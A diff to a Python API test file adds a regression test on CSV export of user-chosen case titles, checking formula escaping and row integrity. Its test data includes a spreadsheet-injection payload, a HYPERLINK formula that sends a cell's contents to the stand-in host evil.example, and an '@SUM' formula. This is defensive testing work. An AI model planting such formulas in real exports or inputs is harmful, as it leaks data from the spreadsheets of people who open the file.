@@ -3,6 +3,8 @@ acts (list, get by id, search, export, snapshot download, actions), and API toke
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Iterator
 from datetime import UTC, datetime
 from typing import Any
@@ -261,3 +263,25 @@ def test_units_are_browsed_within_the_callers_unit(
     assert staff.status_code == 200
     assert "argon2" not in staff.text
     assert client.get("/api/v1/org/staff.csv", headers=tokens["worker"]).status_code == 403
+
+
+def test_a_case_title_reaches_the_export_as_text_and_in_its_own_row(
+    scene: tuple[TestClient, str, str], tokens: dict[str, dict[str, str]]
+) -> None:
+    """Anyone who reports a case chooses its title: a formula ran in a supervisor's
+    spreadsheet, and a lone carriage return split its row."""
+    client, _, _ = scene
+    headers = tokens["county-op"]
+    titles = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "two\rlines"]
+    for title in titles:
+        made = client.post(
+            "/api/v1/cases",
+            json={"category": "other", "severity": "low", "title": title, "unit_code": GRID},
+            headers=headers,
+        )
+        assert made.status_code == 201, made.text
+    text = client.get("/api/v1/cases.csv", headers=headers).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert len({len(r) for r in rows}) == 1  # every row as wide as the header
+    exported = {r[rows[0].index("title")] for r in rows[1:]}
+    assert {"'" + titles[0], "'" + titles[1], "two\rlines"} <= exported
